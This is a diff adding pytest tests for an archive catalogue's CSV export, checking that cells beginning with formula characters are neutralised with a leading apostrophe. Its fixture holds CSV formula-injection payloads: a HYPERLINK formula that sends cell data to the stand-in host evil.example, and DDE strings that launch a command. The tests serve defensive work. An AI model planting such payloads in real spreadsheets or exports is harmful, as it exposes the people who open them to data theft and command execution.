@@ -17,7 +17,13 @@ import bagit
 import pytest
 
 from archive.exports.bag import write_bag
-from archive.exports.csv_json import CSV_COLUMNS, catalogue_csv, catalogue_entry, catalogue_json
+from archive.exports.csv_json import (
+    CSV_COLUMNS,
+    catalogue_csv,
+    catalogue_entry,
+    catalogue_json,
+    neutralised,
+)
 from archive.exports.folders import export_transcripts
 from archive.exports.ohms_writer import as_ohms_xml
 from archive.exports.report import ExportRefused
@@ -348,6 +354,52 @@ def test_csv_round_trip_keeps_commas_quotes_newlines_and_markup(archive):
     assert mp["recording_parts"] == "1; 2" and mp["recording_files"] == "MP-1a.wav; MP-1b.wav"
     assert mp["recording_durations"] == "10.0; 10.0" and mp["recording_mime_types"] == "audio/wav; audio/wav"  # fmt: skip
     assert mp["chapter_count"] == "1" and len(mp["recording_sha256"].split("; ")[1]) == 64
+
+
+# A title and fields a hostile manifest could hold: a spreadsheet opening the
+# CSV would run each as a formula (a link out, a command, a sum).
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Read more")',
+    "summary": "+cmd|' /C calc'!A0",
+    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "rights": "\t=1+1",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(archive):
+    sessions, _ = archive
+    record = replace(_records(sessions)[0], interviewers=("-2+3", "Dov"), **FORMULAS)
+    entries = [catalogue_entry(record, TODAY)]
+    row = _csv_rows(catalogue_csv(entries))[0]
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    assert row["interviewers"] == "'-2+3; Dov"
+    assert row["accession"] == record.accession  # ordinary cells are untouched
+    raw = _csv_rows(catalogue_csv(entries, raw_cells=True))[0]
+    assert {column: raw[column] for column in FORMULAS} == FORMULAS
+    assert raw["interviewers"] == "-2+3; Dov"
+    assert (
+        json.loads(catalogue_json(entries, Scope(TODAY)))["testimonies"][0]["title"]
+        == (
+            FORMULAS["title"]  # JSON is data, not a sheet: exact
+        )
+    )
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("-", "'-"),
+        ("\r=1", "'\r=1"),
+        ("-12.5", "-12.5"),  # a number cannot be a formula
+        ("-3", "-3"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_neutralised(cell, expected):
+    assert neutralised(cell) == expected
 
 
 def test_csv_and_json_with_all_include_hidden_and_say_so(archive):
